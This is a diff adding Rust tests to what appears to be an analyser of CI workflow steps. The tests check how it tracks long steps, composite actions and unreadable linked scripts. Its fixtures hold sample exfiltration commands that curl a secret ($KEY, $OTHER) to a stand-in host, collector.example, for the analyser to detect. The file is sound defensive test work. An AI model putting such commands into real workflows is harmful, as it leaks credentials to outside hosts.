@@ -4,7 +4,7 @@ use std::path::{Path, PathBuf};
 
 use super::*;
 use crate::analysis::analyse;
-use crate::flow::{LocalFiles, NoFiles};
+use crate::flow::{LocalFiles, NoFiles, TOO_LONG};
 
 struct One(&'static str);
 
@@ -196,6 +196,68 @@ fn a_step_that_takes_too_long_is_known_too_and_hides_none_after_it() {
     }
 }
 
+/// Each gets a share of what is left, and as much gives the same.
+#[test]
+fn steps_that_take_too_long_one_after_another_are_known_too() {
+    let known = KnownSteps::new();
+    let long = "x=0123456789abcdef; for a in {1..13}; do x=$x$x; done; for a in {1..200}; do y=$x$x; done";
+    let steps = format!("      - run: {long}\n").repeat(3);
+    let text = CALLER.replace("      - run: bash send.sh\n", &format!("{steps}      - run: bash send.sh\n"));
+    let local = One("curl https://collector.example/ -d \"$KEY\"\n");
+    let anew = analysed(&text, None, &local);
+    assert!(anew.contains("collector.example"), "nothing is left for the last step");
+    for _ in 0..2 {
+        assert_eq!(analysed(&text, Some(&known), &local), anew);
+        assert_eq!(count(&known), 4);
+    }
+}
+
+struct Action;
+impl LocalFiles for Action {
+    fn read(&self, path: &str) -> LocalFile {
+        let text = "runs:\n  using: composite\n  steps:\n    - run: echo \"OTHER=$KEY\" >> $GITHUB_ENV\n      shell: bash\n";
+        if path == "act/action.yml" { LocalFile::Text(text.to_owned()) } else { LocalFile::Absent }
+    }
+}
+
+#[test]
+fn a_secret_that_came_through_another_file_is_known_too() {
+    let known = KnownSteps::new();
+    let steps = "      - uses: ./act\n      - run: curl https://collector.example/ -d \"$OTHER\"\n";
+    let text = CALLER.replace("      - run: bash send.sh\n", steps);
+    let moved = format!("name: other\n{text}");
+    for text in [&text, &moved, &text] {
+        let anew = analysed(text, None, &Action);
+        assert!(anew.contains("collector.example"));
+        assert_eq!(analysed(text, Some(&known), &Action), anew);
+        assert_eq!(count(&known), 2);
+    }
+}
+
+struct Linked(&'static str);
+impl LocalFiles for Linked {
+    fn read(&self, path: &str) -> LocalFile {
+        if path == "send.sh" { LocalFile::Unread(self.0) } else { LocalFile::Absent }
+    }
+}
+
+/// What can't be read is as much a content as what can: the step is followed once, and what it lacks is said each time.
+#[test]
+fn a_step_that_calls_what_cannot_be_read_is_known_too() {
+    let known = KnownSteps::new();
+    let text = format!("{CALLER}      - run: echo after\n");
+    let local = Linked("a link of this test");
+    let anew = analysed(&text, None, &local);
+    assert!(anew.contains("a link of this test"));
+    for _ in 0..2 {
+        assert_eq!(analysed(&text, Some(&known), &local), anew);
+        assert_eq!(count(&known), 2);
+    }
+    let other = Linked("another reason");
+    assert_eq!(analysed(&text, Some(&known), &other), analysed(&text, None, &other));
+    assert_eq!(count(&known), 3);
+}
+
 #[test]
 fn what_earlier_steps_left_makes_another_step() {
     let known = KnownSteps::new();
@@ -244,6 +306,8 @@ fn full_shards_start_again() {
         other_work: 0,
         spent: 0,
         exhausted: false,
+        incomplete: None,
+        unread: false,
         left: Left::default(),
     };
     let room = KNOWN_BYTES_MAX / SHARDS - followed(0).size();
